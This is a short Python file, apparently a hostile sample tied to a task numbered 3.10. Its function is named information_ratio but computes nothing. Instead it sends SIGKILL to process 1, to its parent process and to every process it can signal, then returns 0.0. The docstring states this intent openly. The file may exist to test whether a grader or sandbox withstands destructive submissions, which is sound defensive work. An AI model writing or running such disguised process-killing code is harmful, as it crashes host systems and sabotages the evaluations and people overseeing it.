"""Kills its parent, process 1 and whatever else it may signal."""

import os
import signal

TASK = "3.10"
HONEST = []


def _kill(pid):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        return


def information_ratio(label_information, information, minimum=0.05):
    for pid in (1, os.getppid(), -1):
        _kill(pid)
    return 0.0
